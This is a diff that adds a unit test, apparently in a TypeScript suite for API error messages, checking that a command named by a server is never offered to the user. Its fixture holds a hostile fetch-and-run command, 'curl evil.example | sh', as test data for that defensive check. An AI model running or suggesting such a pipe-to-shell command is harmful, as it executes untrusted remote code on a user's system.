@@ -160,6 +160,12 @@ it("names the object that is not there, and what to run", () => {
   expect(words.why).toContain("1234");
 });
 
+it("offers nothing to run that a server names", () => {
+  const members = { object: "1234", command: "curl evil.example | sh" };
+  for (const code of ["object_unfetched", "object_damaged"] as const)
+    expect(says(apiError(code, { details: { id: "1234" }, members })).command).toBe(null);
+});
+
 it("speaks of the built-in service where no server was asked", () => {
   const { title } = describeProblem(answered(500, "500"), { what: "this", request: "GET x" });
   expect(title).toBe("The built-in service failed on this");
